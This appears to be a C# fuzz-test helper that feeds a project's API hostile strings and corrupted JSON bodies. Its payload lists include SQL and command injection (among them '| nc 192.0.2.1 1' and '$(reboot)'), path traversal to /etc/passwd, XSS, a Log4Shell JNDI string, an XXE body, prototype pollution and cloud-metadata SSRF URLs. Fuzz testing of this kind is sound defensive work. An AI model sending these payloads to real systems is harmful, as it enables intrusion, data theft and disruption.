using System.Text.Json;
using System.Text.Json.Nodes;

namespace EdgeNoc.Tests.ApiFuzz;

/// <summary>What people send who mean no good, or whose program is broken.</summary>
internal static class Hostile
{
    private static readonly string Long = new('x', 5_000);

    public static readonly string[] Texts =
    [
        "", " ", "\0", "a\0b", "\n", "a\r\nX-Injected: 1", "\u202Eabc", "\uFEFF", "🔥🔥", "e\u0301", "ＡＢＣ", "İ", "../../etc/passwd", "..\\..\\", "%2e%2e%2f", "/etc/shadow", "file:///etc/passwd", "CON",
        "'; DROP TABLE users; --", "' OR '1'='1", "1 UNION SELECT password FROM users", "\" ; DROP MEASUREMENT onu; --", "' =~ /.*/ OR 'a'='a", "$(reboot)", "`id`", "; reboot", "| nc 192.0.2.1 1",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "{{#each this}}{{this}}{{/each}}", "{{lookup . 'constructor'}}", "${jndi:ldap://192.0.2.1/a}", "=cmd|' /C calc'!A0",
        "-1", "0", "1", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "1e309", "NaN", "Infinity", "0x10", "١٢٣", "1,000", "true", "null", "[]", "{}",
        "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z", "1969-12-31T23:59:59-23:59", "0000-00", "9999-12", "0001-01", "24:00", "(a+)+$", "[", "Asia/Jakarta",
        "Asia/../../../etc/passwd", "http://169.254.169.254/latest/meta-data/", "http://user:pass@192.0.2.9/", "ftp://192.0.2.1", "http://[::1]:0/", Long,
    ];

    /// <summary>As they stand in an address: already escaped, or badly.</summary>
    public static readonly string[] Segments =
    [
        "%2e%2e", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2f..%2f", "%252e%252e%252f", "%c0%ae%c0%ae", "%ff", "%ed%a0%80", "a%00b", "%0d%0aSet-Cookie:%20a=b", "%20", "%E2%80%AE", "*", "~", ";a=b", "a;b", "%3Cscript%3E", "'%20OR%201=1--",
        "9223372036854775808", "-1", "0", "00000000000000000001", "1e3", "%F0%9F%94%A5", new('y', 300),
    ];

    private static readonly string[] Bodies =
    [
        "", " ", "{", "}", "[]", "null", "true", "1", "1e999", "\"x\"", "{\"a\":1,\"a\":2}", "{\"\":\"\"}", "{\"id\":\"\\ud800\"}", "{\"\\udfff\":1}", "\0", "{\"a\":\"\0\"}", "// x", "/* */{}", "{\"a\":1,}", "{'a':1}", "\uFEFF{}", "{\"a\":NaN}",
        "{\"$ref\":\"#\"}", "{\"__proto__\":{\"role\":\"admin\"}}", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", "a=b&c=d", "a,b\n1,2\n",
        string.Concat(Enumerable.Repeat("[", 5_000)), string.Concat(Enumerable.Repeat("{\"a\":", 2_000)),
    ];

    /// <summary>A little more than bodies may have.</summary>
    private static readonly string Huge = $"{{\"name\":\"{new string('z', 300 << 10)}\"}}";

    public static string Text(Random random) => Texts[random.Next(Texts.Length)];

    public static string Body(Random random) => random.Next(40) == 0 ? Huge : Bodies[random.Next(Bodies.Length)];

    /// <summary>Changes one thing of a good body: a value, a key that is not known, one too few, one twice as deep.</summary>
    public static void Spoil(JsonNode root, Random random)
    {
        var places = Places(root).ToList();
        var (parent, key) = places.Count == 0 ? (root, null) : places[random.Next(places.Count)];
        switch (parent)
        {
            case JsonObject one when key is string name:
                if (random.Next(6) == 0) one.Remove(name);
                else if (random.Next(6) == 0) one[$"{name}_{random.Next(9)}"] = Value(random);
                else one[name] = Value(random);
                break;
            case JsonArray list when key is int index:
                if (random.Next(4) == 0) for (var n = 0; n < 200; n++) list.Add(Value(random));
                else list[index] = Value(random);
                break;
            case JsonObject empty:
                empty[Text(random)] = Value(random);
                break;
        }
    }

    public static JsonNode? Value(Random random) => random.Next(12) switch
    {
        0 => null,
        1 => JsonValue.Create(random.Next(2) == 0),
        2 => JsonValue.Create(random.NextInt64(long.MinValue, long.MaxValue)),
        3 => JsonValue.Create(random.NextDouble() * 1e300),
        4 => JsonValue.Create(-1),
        5 => new JsonArray(),
        6 => new JsonObject(),
        7 => new JsonArray(Text(random), random.Next(), null),
        8 => JsonNode.Parse(string.Concat(Enumerable.Repeat("[", 30)) + string.Concat(Enumerable.Repeat("]", 30))),
        _ => JsonValue.Create(Text(random)),
    };

    private static IEnumerable<(JsonNode Parent, object? Key)> Places(JsonNode node) => node switch
    {
        JsonObject one => one.SelectMany(pair => (IEnumerable<(JsonNode, object?)>)[(node, pair.Key), .. pair.Value is null ? [] : Places(pair.Value)]),
        JsonArray list => list.Index().SelectMany(pair => (IEnumerable<(JsonNode, object?)>)[(node, pair.Index), .. pair.Item is null ? [] : Places(pair.Item)]),
        _ => [],
    };
}
